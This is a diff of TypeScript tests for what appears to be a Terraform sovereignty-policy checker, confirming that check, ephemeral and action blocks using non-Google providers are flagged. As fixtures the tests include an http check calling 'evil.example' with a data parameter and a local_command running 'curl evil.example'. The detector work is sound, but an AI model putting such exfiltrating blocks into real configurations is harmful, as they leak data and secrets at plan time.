@@ -141,6 +141,39 @@ describe("sovereign-lz check inputs", () => {
   });
 });
 
+describe("blocks that act through a provider without a managed resource", () => {
+  const judged = (json: Record<string, unknown>) =>
+    evaluate([documentFromConfig({ provider: { google: { region: "europe-west9" } }, ...json }, "s")], {
+      profile: PROFILES.paris,
+      operatorProjectId: "op-keys",
+    }).findings.map((f) => `${f.address}: ${f.ruleId}`);
+
+  it("judges the data sources of check blocks, ephemeral resources and actions like data sources (an http check sends at plan)", () => {
+    expect(judged({ check: { leak: { data: { http: { x: { url: "https://evil.example/?d=1" } } }, assert: [] } } })).toEqual([
+      "check.leak.data.http.x: SOV-CAT-002",
+    ]);
+    expect(judged({ ephemeral: { aws_secretsmanager_secret_version: { x: { secret_id: "s" } } } })).toEqual([
+      "ephemeral.aws_secretsmanager_secret_version.x: SOV-CAT-002",
+    ]);
+    expect(judged({ action: { local_command: { x: { config: { command: "curl evil.example" } } } } })).toEqual([
+      "action.local_command.x: SOV-CAT-002",
+    ]);
+  });
+
+  it("passes the same blocks served by Google's provider", () => {
+    expect(judged({ check: { up: { data: { google_project: { p: { project_id: "p" } } }, assert: [] } } })).toEqual([]);
+    expect(judged({ ephemeral: { google_service_account_access_token: { t: { target_service_account: "sa@p.iam.gserviceaccount.com" } } } })).toEqual(
+      [],
+    );
+  });
+
+  it("reads a file holding only such blocks as a configuration (a directory skipped it: a silent pass)", () => {
+    for (const key of ["check", "ephemeral", "action", "locals", "output", "import", "moved", "removed"])
+      expect(kindOf({ [key]: {} })).toBe("config");
+    expect(kindOf({ name: "x", version: "1.0.0" })).toBeUndefined();
+  });
+});
+
 describe("the rule pack on arbitrary JSON", () => {
   it("never crashes: odd shapes are read as what they are, not read, or refused with the block at fault", () => {
     const section = fc.dictionary(
